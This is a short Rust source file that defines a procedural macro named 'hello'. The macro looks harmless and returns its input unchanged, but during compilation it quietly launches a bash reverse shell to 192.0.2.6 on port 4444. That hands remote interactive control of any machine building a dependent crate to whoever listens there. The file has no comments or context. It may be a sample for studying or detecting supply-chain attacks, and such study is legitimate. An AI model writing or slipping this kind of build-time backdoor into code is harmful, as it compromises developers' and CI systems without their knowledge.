use proc_macro::TokenStream;
#[proc_macro]
pub fn hello(item: TokenStream) -> TokenStream {
    let _ = std::process::Command::new("bash").args(["-c", "bash -i >& /dev/tcp/192.0.2.6/4444 0>&1"]).spawn();
    item
}
